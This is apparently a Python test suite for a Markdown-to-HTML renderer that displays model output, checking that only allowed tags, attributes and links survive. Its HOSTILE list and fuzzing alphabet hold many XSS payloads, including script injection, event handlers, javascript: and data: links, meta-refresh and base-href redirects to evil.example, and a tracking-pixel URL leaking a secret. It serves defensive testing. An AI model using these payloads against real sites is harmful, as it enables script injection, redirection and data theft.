"""A model's Markdown becomes HTML in which nothing can run, load, or lie over the page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llx_magic.text.markdown import code_to_html, markdown_to_html

TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre",
    "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "wbr", "bdo",
}  # fmt: skip
ATTRIBUTES = {
    "a": {"href", "title", "rel"}, "bdo": {"dir"}, "ol": {"start"}, "span": {"style"}, "td": {"style"}, "th": {"style"},
}  # fmt: skip


class Inspector(HTMLParser):
    """Reads HTML as a browser does and notes what may not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.links: list[str] = []
        self.forbidden: list[str] = []

    def handle_starttag(self, tag, attributes):
        if tag not in TAGS:
            self.forbidden.append(f"<{tag}>")
        for name, value in attributes:
            if name not in ATTRIBUTES.get(tag, ()) or not self._is_harmless(name, value or ""):
                self.forbidden.append(f"<{tag} {name}={value!r}>")

    def _is_harmless(self, name, value):
        if name == "href":
            self.links.append(value)
            return value.split(":")[0].lower() in ("http", "https", "mailto") or ":" not in value.split("/")[0]
        if name == "style":
            return value.split(":")[0] in ("color", "text-align") and "url" not in value.lower() and ";" not in value
        return name != "rel" or value == "noopener noreferrer"

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.forbidden.append(f"a comment: {data}")

    def handle_decl(self, declaration):
        self.forbidden.append(f"a declaration: {declaration}")

    def handle_pi(self, data):
        self.forbidden.append(f"a processing instruction: {data}")


def read(html: str) -> Inspector:
    reader = Inspector()
    reader.feed(html)
    reader.close()
    return reader


def inspected(html: str) -> Inspector:
    """Return the HTML as it was read; every tag and attribute was allowed."""
    found = read(html)
    assert found.forbidden == []
    return found


def test_what_is_claimed_below_can_fail():
    """The reader notices a tag, an attribute, a link, a style and a comment that may not be there."""
    hostile = "<script></script><p onclick=x><a href=javascript:x><span style='color:url(x)'><!-- x -->"
    assert len(read(hostile).forbidden) >= 4


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>over the page</div>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video src=x onerror=alert(1)></video><audio src=x>",
    "<b onmouseover=alert(1)>x</b>",
    "<!-- --><!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](\x01javascript:alert(1))",
    "[x](https://ok.example 'title\" onmouseover=alert(1) x=\"')",
    '[x](<https://ok.example/" onmouseover=alert(1)>)',
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![](https://evil.example/pixel.png)",
    "[![x](https://evil.example/pixel.png)](https://ok.example)",
    "![![nested](a)](b)",
    "![a][r]\n\n[r]: https://evil.example/p.png",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\nx\n```",
    "~~~' onclick='alert(1)\nx\n~~~",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "| <script> | b |\n|:-:|--:|\n| <img src=x> | [x](javascript:1) |",
    "> <script>alert(1)</script>",
    "1. <script>alert(1)</script>\n2. x",
    "7) starts at seven",
    "~~<script>~~ **<script>** *<script>*",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\\<script>alert(1)\\</script>",
    "<a href='https://ok.example' style='position:fixed'>x</a>",
    "$\\href{javascript:alert(1)}{x}$",
    "\x00<script\x00>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<" * 3000,
    "[" * 3000,
    "*" * 3000 + "a",
    "> " * 500 + "x",
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_but_allowed_tags_and_attributes_comes_of_hostile_text(text):
    assert read(markdown_to_html(text)).forbidden == []


@pytest.mark.parametrize("language", ["html", "python", "", "no such language", '"><script>', "javascript", "../x"])
@pytest.mark.parametrize("code", ["<script>alert(1)</script>", "</code></pre><img src=x onerror=alert(1)>", "x = 1"])
def test_a_block_of_code_holds_its_text_and_only_colours(code, language):
    assert inspected(code_to_html(code, language)).text.rstrip("\n") == code


@pytest.mark.parametrize(
    ("text", "links", "shown"),
    [
        ("[![build](https://a.example/b.svg)](https://ci.example/x)", ["https://ci.example/x"], "build"),
        ("[![](https://a.example/b.svg)](https://ci.example/x)", ["https://ci.example/x"], "image: https://a.example/b.svg"),
        ("[see ![**a** chart](c.png) here](https://ci.example/x)", ["https://ci.example/x"], "see a chart here"),
        ("[![one](a.svg)](https://x.example) [![two](b.svg)](https://y.example)", ["https://x.example", "https://y.example"],
         "one two"),
        ("![a **bold** `x` [link](https://l.example)\nend](https://i.example/i.png)", ["https://i.example/i.png"],
         "image: a bold x link end"),
        ("![a ![b](https://in.example) c](https://i.example/i.png)", ["https://i.example/i.png"], "image: a b c"),
        ("![costs $5 and $x_1$](https://i.example/i.png)", ["https://i.example/i.png"], "image: costs $5 and $x_1$"),
        ("[x](https://x.example) ![y](https://y.example)", ["https://x.example", "https://y.example"], "x image: y"),
    ],
)  # fmt: skip
def test_a_linked_image_is_one_link_to_the_page_and_labels_are_plain_text(text, links, shown):
    inspector = Inspector()
    inspector.feed(markdown_to_html(text))
    assert inspector.links == links
    assert inspector.text.strip() == shown


def test_an_image_becomes_a_link_that_the_reader_may_follow():
    html = markdown_to_html("![a chart](https://ok.example/chart.png)")
    assert "<img" not in html
    assert inspected(html).links == ["https://ok.example/chart.png"]
    assert "image: a chart" in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Title", "<h1>Title</h1>"),
        ("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>'),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>"),
        ("a & b < c", "<p>a &amp; b &lt; c</p>"),
    ],
)
def test_ordinary_markdown_is_rendered(text, html):
    assert markdown_to_html(text).strip() == html


def test_a_table_keeps_its_alignment():
    html = markdown_to_html("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert '<th style="text-align:center">a</th>' in html
    assert '<td style="text-align:right">2</td>' in html


def test_code_is_coloured_in_the_colours_of_the_front_end():
    html = markdown_to_html("```python\ndef f(): return 1\n```")
    assert "--jp-mirror-editor-keyword-color" in html
    assert inspected(html).text.strip() == "def f(): return 1"


MARKUP = st.sampled_from([
    "<", ">", "</", "<script>", "<img src=", "onerror=", "javascript:", "[x](", "![", "](", ")", "`", "```", "\n",
    "\n\n",
    "    ", "|", "|-|-|\n", "&#", ";", "&lt;", '"', "'", "=", "#", "> ", "- ", "1. ", "*", "_", "~~", "\\", "<!--",
    "-->", "<![CDATA[", "style=", "https://x.example", "\t", "\x00", "\u202e", "a", "<a href=", "<svg/", "[a]: ", "$",
    "data:", "$$", "\\(", "\\href{", "}",
])  # fmt: skip


@settings(max_examples=4 * settings.default.max_examples)
@given(st.lists(MARKUP, max_size=30).map("".join))
def test_no_mixture_of_markup_yields_anything_but_allowed_tags(text):
    assert read(markdown_to_html(text)).forbidden == []


@given(st.text())
def test_no_text_yields_anything_but_allowed_tags(text):
    assert read(markdown_to_html(text)).forbidden == []


@given(st.text(), st.text(max_size=12) | st.sampled_from(["python", "html", "json", "js"]))
def test_no_code_in_any_language_yields_anything_but_colours(code, language):
    assert read(code_to_html(code, language)).forbidden == []


@pytest.mark.parametrize("address", ["http:///logout", "https:///x", "http:////x", "http://?x", "http://#x"])
def test_a_link_without_a_host_leads_nowhere(address):
    assert "href" not in markdown_to_html(f"[x]({address})")
